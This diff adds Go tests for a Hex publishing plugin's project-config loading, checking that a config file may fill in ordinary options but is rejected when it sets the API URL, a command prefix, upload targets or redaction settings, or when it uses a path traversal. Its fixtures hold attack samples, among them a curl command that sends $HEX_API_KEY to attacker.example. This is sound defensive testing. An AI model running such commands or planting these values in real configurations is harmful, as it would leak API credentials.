@@ -0,0 +1,106 @@
+package main
+
+import (
+	"context"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/relicta-tech/relicta-plugin-sdk/plugin"
+)
+
+func TestWithProjectConfig(t *testing.T) {
+	dir := chdirTemp(t)
+	if err := os.MkdirAll(filepath.Join(dir, "apps", "core"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, "apps", "core", defaultProjectConfigFile), []byte("organization: file-org\nreplace: true\nretries: 2\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, "custom.yml"), []byte("organization: custom-org\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, "bad.yml"), []byte("work_dir: elsewhere\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	for name, content := range map[string]string{
+		"api.yml":    "organization: acme\napi_url: https://hex.attacker.example/api\n",
+		"prefix.yml": "command_prefix: [sh, -c, 'curl https://attacker.example -d $HEX_API_KEY']\n",
+		"docs.yml":   "docs_targets: [{name: docs, url: https://attacker.example/upload}]\n",
+		"audit.yml":  "redaction_audit: false\n",
+	} {
+		if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	tests := []struct {
+		name     string
+		config   map[string]any
+		wantOrg  any
+		wantErr  string
+		wantKeys []string
+	}{
+		{name: "no project file", config: map[string]any{"organization": "acme"}, wantOrg: "acme"},
+		{name: "file fills unset options", config: map[string]any{"work_dir": "apps/core"}, wantOrg: "file-org", wantKeys: []string{"replace", "retries"}},
+		{name: "relicta config wins", config: map[string]any{"work_dir": "apps/core", "organization": "acme"}, wantOrg: "acme"},
+		{name: "configured file", config: map[string]any{"config_file": "custom.yml"}, wantOrg: "custom-org"},
+		{name: "missing configured file", config: map[string]any{"config_file": "missing.yml"}, wantErr: "failed to read"},
+		{name: "file cannot set work_dir", config: map[string]any{"config_file": "bad.yml"}, wantErr: "cannot set work_dir"},
+		{name: "file cannot set api_url", config: map[string]any{"config_file": "api.yml"}, wantErr: "cannot set api_url"},
+		{name: "file cannot set command_prefix", config: map[string]any{"config_file": "prefix.yml"}, wantErr: "cannot set command_prefix"},
+		{name: "file cannot set docs_targets", config: map[string]any{"config_file": "docs.yml"}, wantErr: "cannot set docs_targets"},
+		{name: "file cannot disable redaction_audit", config: map[string]any{"config_file": "audit.yml"}, wantErr: "cannot set redaction_audit"},
+		{name: "traversal rejected", config: map[string]any{"config_file": "../secrets.yml"}, wantErr: "config_file"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			merged, err := withProjectConfig(tt.config)
+			if tt.wantErr != "" {
+				if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+					t.Errorf("expected error containing %q, got %v", tt.wantErr, err)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatalf("unexpected error: %v", err)
+			}
+			if merged["organization"] != tt.wantOrg {
+				t.Errorf("organization = %v, want %v", merged["organization"], tt.wantOrg)
+			}
+			for _, key := range tt.wantKeys {
+				if _, ok := merged[key]; !ok {
+					t.Errorf("expected %s from the project file", key)
+				}
+			}
+		})
+	}
+}
+
+func TestExecuteProjectConfig(t *testing.T) {
+	dir := chdirTemp(t)
+	if err := os.WriteFile(filepath.Join(dir, defaultProjectConfigFile), []byte("organization: file-org\nreplace: true\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+
+	mock := &MockCommandExecutor{}
+	p := &HexPlugin{executor: mock}
+
+	resp, err := p.Execute(context.Background(), plugin.ExecuteRequest{
+		Hook:    plugin.HookPostPublish,
+		Config:  map[string]any{"api_key": "test-api-key"},
+		Context: plugin.ReleaseContext{Version: "1.0.0"},
+	})
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if !resp.Success {
+		t.Fatalf("expected success, got error: %s", resp.Error)
+	}
+	args := strings.Join(mock.Calls[0].Args, " ")
+	if !strings.Contains(args, "--organization file-org") || !strings.Contains(args, "--replace") {
+		t.Errorf("expected options from the project file, got %q", args)
+	}
+}